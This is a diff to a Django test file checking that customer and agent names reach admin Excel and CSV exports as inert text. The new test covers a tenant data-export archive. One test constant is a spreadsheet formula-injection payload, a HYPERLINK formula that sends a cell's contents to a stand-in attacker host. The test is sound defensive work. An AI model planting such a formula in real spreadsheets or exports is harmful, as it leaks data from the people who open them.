@@ -1,6 +1,9 @@
 """Excel formula injection: text that people typed (a customer's or an agent's name, a reason) reaches
 the admin's spreadsheet as text, never as a live formula; plain numbers stay numbers."""
 
+import csv
+import io
+import zipfile
 from io import BytesIO
 
 import pytest
@@ -10,6 +13,7 @@ from openpyxl import load_workbook
 from core.excel import formula_safe
 from customers.services import customer_create
 from network.services import agent_create, tier_create
+from tenants.tasks import tenant_export_build_task
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&B2,"点我")'
 
@@ -50,3 +54,17 @@ def test_customer_and_agent_exports_carry_names_as_text(api, datang) -> None:
     agents = _cells(admin.get("/api/v1/network/agents/export/").content)
     assert agents["'@SUM(9,9)"] == ("'@SUM(9,9)", "s")
     assert agents["'-1+1"] == ("'-1+1", "s")
+
+
+@pytest.mark.django_db
+def test_the_tenant_data_export_csv_keeps_names_as_text(api, datang) -> None:
+    with schema_context("datang"):
+        customer_create(actor=None, name=LINK, mobile="13912348003")
+    platform = api("platform_admin")
+    export_id = platform.post(f"/api/v1/platform/tenants/{datang.pk}/deletion/").json()["id"]
+    assert tenant_export_build_task.apply(args=[export_id]).get()["status"] == "ready"
+    download = platform.get(f"/api/v1/platform/exports/{export_id}/download/")
+    archive = zipfile.ZipFile(BytesIO(b"".join(download.streaming_content)))
+    with archive.open("schema/customers_customer.csv") as raw:
+        rows = list(csv.DictReader(io.TextIOWrapper(raw, "utf-8")))
+    assert [r["name"] for r in rows if r["mobile"] == "13912348003"] == ["'" + LINK]
